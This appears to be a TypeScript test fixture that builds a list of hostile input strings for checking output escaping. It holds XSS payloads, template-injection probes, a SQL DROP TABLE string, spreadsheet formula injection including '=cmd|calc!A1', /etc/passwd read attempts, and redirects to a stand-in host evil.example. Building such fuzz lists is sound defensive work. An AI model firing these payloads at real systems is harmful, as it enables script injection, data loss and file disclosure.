/** Words that would run, break out or be computed wherever a text is taken for code (reliability.md §1, 35 and 38; §7, G22). */

const IMAGE = '<img src=x onerror=alert(1)>';
/** By day three that between them reach HTML, attributes, scripts and templates. */
const FEW = [`"'><img src=x onerror=alert(1)>`, '</script><script>alert(1)</script>', `{{7*7}}\${7*7}<%=7*7%>#{7*7}`];

const TAGS = [
  'svg onload',
  'body onload',
  'details open ontoggle',
  'video src=x onerror',
  'audio src=x onerror',
  'input autofocus onfocus',
  'marquee onstart',
  'iframe onload',
  'style onload',
  'object data=x onerror',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'form onsubmit',
  'math href',
  'link rel=stylesheet href=x onerror',
  'meta onload',
  'base onload',
  'table background',
  'isindex onfocus',
  'xmp onclick',
];
const BREAKS = [
  '"',
  "'",
  '">',
  "'>",
  '-->',
  '*/',
  '</title>',
  '</textarea>',
  '</style>',
  '</noscript>',
  '</template>',
  ']]>',
  '`',
  '\\"',
  '&quot;>',
  '%22%3E',
];
const SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example/x',
  'https://evil.example/"onclick=alert(1)',
];
const TEMPLATES = [
  '{{7*7}}',
  `\${7*7}`,
  '<%=7*7%>',
  '#{7*7}',
  '*{7*7}',
  '@(7*7)',
  '{%7*7%}',
  '[[7*7]]',
  "{{constructor.constructor('alert(1)')()}}",
  '#panic("x")',
  '#read("/etc/passwd")',
  '$x^2$',
  '*_`#let x = 1`_*',
  '\\input{/etc/passwd}',
  '%s%n%x',
];
const FORMULAS = ['=7*7', '+7*7', '-7*7', '@SUM(1)', '=cmd|calc!A1', '=HYPERLINK("http://evil.example")'];
const STRANGE = [
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<scr<script>ipt>alert(1)</script>',
  '<ſcript>alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
  '<!--<img src="--><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<a href=javascript:alert(1)>x</a>',
  '<svg><animate onbegin=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">',
  '<IMG SRC=# onmouseover=alert(1)>',
  '<x onclick=alert(1)>x',
  '<img src=x:x onerror\n=alert(1)>',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  '0',
  "Robert'); DROP TABLE receipts;--",
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '%3Cimg%20src=x%20onerror=alert(1)%3E',
  '<plaintext>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content=0;url=//evil.example>',
  '<form action=//evil.example><button>x',
  '<link rel=import href=//evil.example>',
];

const ALL = [
  ...FEW,
  ...TAGS.map((tag) => `<${tag}=alert(1)>`),
  ...BREAKS.map((end) => end + IMAGE),
  ...SCHEMES,
  ...TEMPLATES,
  ...FORMULAS,
  ...STRANGE,
];

/** Over a hundred in the full run. */
export const HOSTILE_WORDS: readonly string[] = process.env.VERIFY === 'full' ? ALL : FEW;

/** Short fields get what of it fits: still a tag. */
export function fit(words: string, length: number): string {
  return words.length <= length ? words : '<s>"\'`'.slice(0, length);
}
